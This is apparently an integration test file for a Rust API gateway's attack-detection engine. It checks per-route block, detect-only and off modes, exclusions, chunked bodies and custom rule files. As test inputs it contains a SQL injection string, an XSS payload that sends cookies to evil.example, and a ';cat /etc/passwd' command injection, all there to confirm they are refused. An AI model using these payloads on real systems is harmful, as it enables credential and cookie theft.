//! Attack detection in the gateway: real clients, a real upstream, the engine as a pipeline
//! stage with per-route modes, exclusions and rule files.

mod common;

use std::time::Duration;

use apiguard_model::{Action, EventKind};
use apiguard_testkit::TestUpstream;
use bytes::Bytes;
use common::*;
use http::{Request, StatusCode};
use http_body_util::Full;

/// Three routes over one upstream: the default (block), a detect-only one and one with
/// detection off, plus an exclusion on the default route.
fn config(upstream: std::net::SocketAddr) -> String {
    format!(
        r#"
listeners:
  - address: 127.0.0.1:0
admin:
  address: 127.0.0.1:0
upstreams:
  backend:
    targets: ["{upstream}"]
detect:
  exclusions:
    - {{class: sqli, target: "query:sql_console"}}
routes:
  - id: tuning
    match: {{path: {{prefix: /echo/tuning}}}}
    upstream: backend
    detect: {{mode: detect_only}}
  - id: internal
    match: {{path: {{prefix: /echo/internal}}}}
    upstream: backend
    detect: {{mode: off}}
  - id: all
    upstream: backend
access_log:
  enabled: false
reload:
  watch: false
"#
    )
}

const SQLI: &str = "1%27%20UNION%20SELECT%20password%20FROM%20users--";

#[tokio::test]
async fn an_attack_is_refused_with_a_problem_json_403_that_reveals_nothing() {
    let upstream = TestUpstream::start().await.unwrap();
    let gw = start(&config(upstream.addr())).await;
    let client = h1_client();
    let reply = get(&client, &gw.url(&format!("/echo?id={SQLI}"))).await;
    assert_eq!(reply.status, StatusCode::FORBIDDEN);
    assert_eq!(reply.headers["content-type"], "application/problem+json");
    let body = reply.json();
    assert_eq!(body["status"], 403);
    let request_id = body["request_id"].as_str().unwrap();
    assert_eq!(reply.headers["x-request-id"], request_id);
    let text = String::from_utf8_lossy(&reply.body).to_lowercase();
    assert!(
        !text.contains("union") && !text.contains("sqli") && !text.contains("password"),
        "the answer names the attack: {text}"
    );
    assert_eq!(
        upstream.request_count(),
        0,
        "a blocked request reached the upstream"
    );

    // Real traffic that looks a little like it passes untouched.
    let benign = [
        "/echo?name=O%27Brien&city=Dublin",
        "/echo?q=how+to+select+and+drop+a+column+in+a+spreadsheet",
        "/echo?next=https%3A%2F%2Fexample.com%2Fhome",
    ];
    let mut events = gw.gateway.subscribe();
    for path in benign {
        let status = get(&client, &gw.url(path)).await.status;
        assert_eq!(
            status,
            StatusCode::OK,
            "{path} was refused: {:?}",
            events.try_recv()
        );
    }
    let json = send(
        &client,
        Request::post(gw.url("/echo"))
            .header("content-type", "application/json")
            .body(Full::new(Bytes::from_static(
                br#"{"author":"Miles O'Brien","comment":"We should select a venue and drop the old one; see <b>notes</b>.","avatar":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}"#,
            )))
            .unwrap(),
    )
    .await;
    assert_eq!(json.status, StatusCode::OK);
}

#[tokio::test]
async fn attacks_in_bodies_are_found_with_or_without_content_length() {
    let upstream = TestUpstream::start().await.unwrap();
    let gw = start(&config(upstream.addr())).await;
    let client = h1_client();
    let payload = br#"{"user":{"name":"x","bio":"<script>fetch('//evil.example/'+document.cookie)</script>"}}"#;
    let with_length = send(
        &client,
        Request::post(gw.url("/echo"))
            .header("content-type", "application/json")
            .body(Full::new(Bytes::from_static(payload)))
            .unwrap(),
    )
    .await;
    assert_eq!(with_length.status, StatusCode::FORBIDDEN);

    // The same payload chunked, split mid-word, with no Content-Length: not a way around.
    let (a, b) = payload.split_at(40);
    let chunks = futures_util::stream::iter(
        [a.to_vec(), b.to_vec()]
            .map(|c| Ok::<_, std::io::Error>(http_body::Frame::data(Bytes::from(c)))),
    );
    let chunked = stream_client()
        .request(
            Request::post(gw.url("/echo"))
                .header("content-type", "application/json")
                .body(http_body_util::StreamBody::new(chunks))
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(chunked.status(), StatusCode::FORBIDDEN);
    assert_eq!(upstream.request_count(), 0);
}

#[tokio::test]
async fn a_body_longer_than_the_inspection_limit_is_inspected_up_to_it_and_streamed_whole() {
    let upstream = TestUpstream::start().await.unwrap();
    let yaml = config(upstream.addr()).replace(
        "detect:\n  exclusions:",
        "detect:\n  max_body_inspect: 4096\n  exclusions:",
    );
    let gw = start(&yaml).await;
    let mut events = gw.gateway.subscribe();
    // 64 KiB of clean form data in 16 chunks: inspected up to 4 KiB (one notice, below the
    // threshold), then forwarded whole.
    let chunks = futures_util::stream::iter((0..16).map(|i| {
        let chunk = format!("f{i}={}&", "a".repeat(4096 - 4));
        Ok::<_, std::io::Error>(http_body::Frame::data(Bytes::from(chunk)))
    }));
    let clean = stream_client()
        .request(
            Request::post(gw.url("/upload"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body(http_body_util::StreamBody::new(chunks))
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(clean.status(), StatusCode::OK, "{:?}", events.try_recv());
    let body = http_body_util::BodyExt::collect(clean.into_body())
        .await
        .unwrap()
        .to_bytes();
    let received: serde_json::Value = serde_json::from_slice(&body).unwrap();
    let sent: usize = (0..16).map(|i| format!("f{i}=").len() + 4096 - 4 + 1).sum();
    assert_eq!(received["received"], sent);

    // An attack in the inspected part of a long body is still refused.
    let mut attack = b"cmd=;cat%20/etc/passwd&".to_vec();
    attack.extend(std::iter::repeat_n(b'b', 20_000));
    let refused = send(
        &h1_client(),
        Request::post(gw.url("/upload"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(Full::new(Bytes::from(attack)))
            .unwrap(),
    )
    .await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn modes_and_exclusions_apply_per_route_and_findings_are_reported() {
    let upstream = TestUpstream::start().await.unwrap();
    let gw = start(&config(upstream.addr())).await;
    let mut events = gw.gateway.subscribe();
    let client = h1_client();

    // detect_only: passes, but the finding is published and counted.
    let tuning = get(&client, &gw.url(&format!("/echo/tuning?id={SQLI}"))).await;
    assert_eq!(tuning.status, StatusCode::OK);
    let event = tokio::time::timeout(Duration::from_secs(5), async {
        loop {
            let event = events.recv().await.unwrap();
            if let EventKind::RequestInspected { .. } = event.kind {
                return event;
            }
        }
    })
    .await
    .expect("an event for the detect-only request");
    let EventKind::RequestInspected {
        action,
        score,
        threshold,
        findings,
    } = &event.kind
    else {
        unreachable!()
    };
    assert_eq!(*action, Action::LogOnly);
    assert_eq!(event.route.as_deref(), Some("tuning"));
    assert!(
        *score >= *threshold,
        "score {score} < threshold {threshold}"
    );
    let sqli = findings
        .iter()
        .find(|f| f.class == "sqli")
        .expect("an sqli finding");
    assert_eq!(sqli.target, "query:id");

    // off: not even inspected.
    let internal = get(&client, &gw.url(&format!("/echo/internal?id={SQLI}"))).await;
    assert_eq!(internal.status, StatusCode::OK);

    // The exclusion silences sqli on one argument of the default route, and only there.
    let excluded = get(&client, &gw.url(&format!("/echo?sql_console={SQLI}"))).await;
    assert_eq!(excluded.status, StatusCode::OK);
    let other = get(&client, &gw.url(&format!("/echo?search={SQLI}"))).await;
    assert_eq!(other.status, StatusCode::FORBIDDEN);

    let counted = metric(&gw, r#"apiguard_findings_total{class="sqli""#)
        .await
        .unwrap_or(0.0);
    assert!(
        counted >= 2.0,
        "sqli findings counted: {counted} (detect-only and block)"
    );
    let blocked =
        r#"apiguard_requests_total{decision="block",method="GET",route="all",status_class="4xx"}"#;
    assert_eq!(metric(&gw, blocked).await, Some(1.0));
    let logged = r#"apiguard_requests_total{decision="log_only",method="GET",route="tuning",status_class="2xx"}"#;
    assert_eq!(metric(&gw, logged).await, Some(1.0));
    // Scores: two requests on `all` (the excluded one below the threshold, the refused one
    // at or above it).
    assert_eq!(
        metric(&gw, r#"apiguard_request_score_count{route="all"}"#).await,
        Some(2.0)
    );
    assert_eq!(
        metric(&gw, r#"apiguard_request_score_bucket{route="all",le="4"}"#).await,
        Some(1.0)
    );
}

#[tokio::test]
async fn user_rule_files_are_loaded_and_bad_ones_are_refused_with_a_position() {
    let upstream = TestUpstream::start().await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("local.yaml");
    std::fs::write(
        &rules,
        r#"
rules:
  - id: local.internal_marker
    class: policy
    severity: critical
    message: an internal-only marker reached the edge
    targets: [headers, args]
    operator: {phrases: [INTERNAL-ONLY-7f3a]}
"#,
    )
    .unwrap();
    let yaml = config(upstream.addr()).replace(
        "detect:\n  exclusions:",
        &format!(
            "detect:\n  rule_files: [\"{}\"]\n  exclusions:",
            rules.display()
        ),
    );
    let gw = start(&yaml).await;
    let client = h1_client();
    let marked = send(
        &client,
        Request::get(gw.url("/echo"))
            .header("x-note", "INTERNAL-ONLY-7f3a")
            .body(Full::default())
            .unwrap(),
    )
    .await;
    assert_eq!(marked.status, StatusCode::FORBIDDEN);
    assert_eq!(
        get(&client, &gw.url("/echo?note=ordinary")).await.status,
        StatusCode::OK
    );

    // A missing rule file and an impossible paranoia level are both reported, with positions.
    let bad = config(upstream.addr())
        .replace(
            "detect:\n  exclusions:",
            "detect:\n  rule_files: [/nonexistent/rules.yaml]\n  exclusions:",
        )
        .replace("detect: {mode: off}", "detect: {paranoia: 9}");
    let path = dir.path().join("bad.yaml");
    std::fs::write(&path, bad).unwrap();
    let error = apiguard_gateway::runtime::validate_file(&path).unwrap_err();
    let text = error.to_string();
    assert!(
        text.contains("cannot read rule file `/nonexistent/rules.yaml`"),
        "{text}"
    );
    assert!(text.contains("paranoia"), "{text}");
    assert!(
        text.contains("bad.yaml:") && text.lines().count() >= 2,
        "{text}"
    );
}
